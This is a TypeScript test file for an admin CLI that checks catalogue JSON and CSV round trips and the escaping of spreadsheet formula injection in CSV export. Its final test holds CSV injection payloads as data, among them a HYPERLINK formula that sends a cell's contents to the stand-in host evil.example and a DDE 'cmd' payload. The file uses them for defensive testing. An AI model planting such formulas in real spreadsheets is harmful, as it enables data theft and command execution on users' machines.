import { sql } from 'drizzle-orm'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { parseCsv } from '../../src/platform/lib/csv'
import type { DatabaseHandle } from '../../src/platform/db/client'
import { createTestDatabase } from '../support/test-database'
import { createAdminCli } from './admin-cli'

let database: DatabaseHandle
let cli: ReturnType<typeof createAdminCli>

beforeAll(async () => {
  database = await createTestDatabase()
  cli = createAdminCli(database)
  // Text that a CSV or list cell must escape, so the round trips below prove it does.
  cli.files.set(
    'tricky.json',
    JSON.stringify([
      {
        id: 'tricky',
        title: 'Comillas "dobles", comas y | barras \\ invertidas',
        subtitle: 'Dos\nlíneas',
        category: { id: 'cat-bar', name: 'Barra | en el nombre', description: 'd' },
        tags: [{ id: 'tag-bar', name: 'a|b' }, 'ñandú'],
        project_links: [{ title: 'Título | con barra', url: 'https://example.com/a?b=1&c=2' }],
        demonstration_cases: ['Caso \\ con barra invertida', 'Otro | caso'],
      },
    ]),
  )
})
afterAll(() => database.close())

const emptyCatalogue = () => database.rows(sql`TRUNCATE project_tags, projects, tags, categories`)

it('JSON: export → import → export is identical, on the same catalogue and on an empty one', async () => {
  expect((await cli.run('catalog', 'import', 'tricky.json')).code).toBe(0)
  const first = await cli.run('catalog', 'export', '--format', 'json', '--output', 'catalog.json')
  expect(first).toEqual({ code: 0, out: '', err: 'Wrote catalog.json\n' })
  const exported = cli.files.get('catalog.json') ?? ''
  const parsed = JSON.parse(exported) as { projects: unknown[]; categories: unknown[]; tags: unknown[] }
  expect(parsed.projects).toHaveLength(721)
  expect(parsed.projects.at(-1)).toMatchObject({ id: 'tricky', category_id: 'cat-bar'.replace('|', '|') })

  expect((await cli.run('catalog', 'import', 'catalog.json')).out).toContain(
    '721 projects (0 new, 0 updated, 721 unchanged)',
  )
  expect((await cli.run('catalog', 'export')).out).toBe(exported)

  await emptyCatalogue()
  expect((await cli.run('catalog', 'import', 'catalog.json')).out).toContain(
    '721 projects (721 new, 0 updated, 0 unchanged)',
  )
  expect((await cli.run('catalog', 'export')).out).toBe(exported)
})

it('CSV: export → import → export is identical, on the same catalogue and on an empty one', async () => {
  const exported = (await cli.run('catalog', 'export', '--format', 'csv')).out
  expect(exported.split('\r\n')[0]).toBe(
    'id,title,subtitle,author,category,category_id,tags,tag_ids,youtube_url,thumbnail_url,problem_solved,links,demonstration_cases',
  )
  expect(exported).toContain('"Comillas ""dobles"", comas y | barras \\ invertidas","Dos\nlíneas"')
  expect(exported).toContain(',Barra | en el nombre,cat-bar,a\\|b|ñandú,tag-bar|')
  expect(exported).toContain(
    ',Título \\| con barra|https://example.com/a?b=1&c=2,Caso \\\\ con barra invertida|Otro \\| caso\r\n',
  )
  cli.files.set('catalog.csv', exported)
  expect((await cli.run('catalog', 'import', 'catalog.csv')).code).toBe(0)
  expect((await cli.run('catalog', 'export', '--format', 'csv')).out).toBe(exported)

  await emptyCatalogue()
  expect((await cli.run('catalog', 'import', 'catalog.csv')).out).toContain(
    '721 projects (721 new, 0 updated, 0 unchanged)',
  )
  expect((await cli.run('catalog', 'export', '--format', 'csv')).out).toBe(exported)
})

it('reports the catalogue’s statistics as text and JSON', async () => {
  const text = await cli.run('catalog', 'stats')
  expect(text.out).toMatch(/^Projects: +721 \(\d+ without a category\)\nCategories: +\d+\nTags: +\d+\n/)
  const json = JSON.parse((await cli.run('catalog', 'stats', '--json')).out) as Record<string, unknown>
  expect(json).toMatchObject({ projects: 721, members: 0 })
  expect(json.topTags).toHaveLength(5)
})

it('CSV: a cell a spreadsheet would run as a formula is escaped with a quote, and import reads it back unchanged', async () => {
  cli.files.set(
    'formulas.json',
    JSON.stringify([
      {
        id: 'formula-1',
        title: '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
        subtitle: '+1+2',
        author: '@SUM(1,2)',
        problem_solved: '-2+3',
        category: '-Categoría',
        tags: ['+etiqueta'],
        project_links: [{ title: "=cmd|' /C calc'!A0", url: 'https://example.com/a' }],
        demonstration_cases: ['@caso', 'normal'],
      },
      // Stored without control characters (decision 058): the tab stays, the problem's carriage return
      // becomes a line feed; either way a formula follows white space.
      { id: 'formula-2', title: 'Tabulador y retorno', subtitle: '\t=1+1', problem_solved: '\r=1+1' },
      // Spreadsheets skip spaces and line breaks before a formula (issue 28, item 10).
      {
        id: 'formula-4',
        title: 'Espacios',
        subtitle: '   =1+1',
        author: ' @SUM(1,2)',
        problem_solved: '\n\n-2+3\n',
      },
      {
        id: 'formula-3',
        title: "'=ya con comilla",
        subtitle: "''@dos comillas",
        author: "'texto con comilla",
        project_links: [{ title: '-guion', url: 'https://example.com/b' }],
        demonstration_cases: ['+uno'],
      },
    ]),
  )
  expect((await cli.run('catalog', 'import', 'formulas.json')).code).toBe(0)
  const formulaProjects = async () => {
    const { projects } = JSON.parse((await cli.run('catalog', 'export')).out) as {
      projects: { id: string }[]
    }
    return projects.filter((project) => project.id.startsWith('formula-'))
  }
  const before = await formulaProjects()
  expect(before).toHaveLength(4)

  const exported = (await cli.run('catalog', 'export', '--format', 'csv')).out
  const dangerous = parseCsv(exported)
    .flat()
    .filter((cell) => /^(?:[\t\r\n]|\s*[=+\-@])/.test(cell))
  expect(dangerous).toEqual([])
  expect(exported).toContain(
    `formula-1,"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")","'+1+2","'@SUM(1,2)"`,
  )
  expect(exported).toContain(`"'-2+3","'=cmd\\|' /C calc'!A0|https://example.com/a","'@caso|normal"`)
  expect(exported).toContain(`formula-2,Tabulador y retorno,"'\t=1+1",`)
  expect(exported).toContain(`"'\n=1+1"`)
  expect(exported).toContain(`formula-4,Espacios,"'   =1+1","' @SUM(1,2)",`)
  expect(exported).toContain(`"'\n\n-2+3\n"`)
  expect(exported).toContain(`formula-3,"''=ya con comilla","'''@dos comillas",'texto con comilla,`)

  cli.files.set('formulas.csv', exported)
  await emptyCatalogue()
  expect((await cli.run('catalog', 'import', 'formulas.csv')).code).toBe(0)
  expect(await formulaProjects()).toEqual(before)
  expect((await cli.run('catalog', 'export', '--format', 'csv')).out).toBe(exported)
})
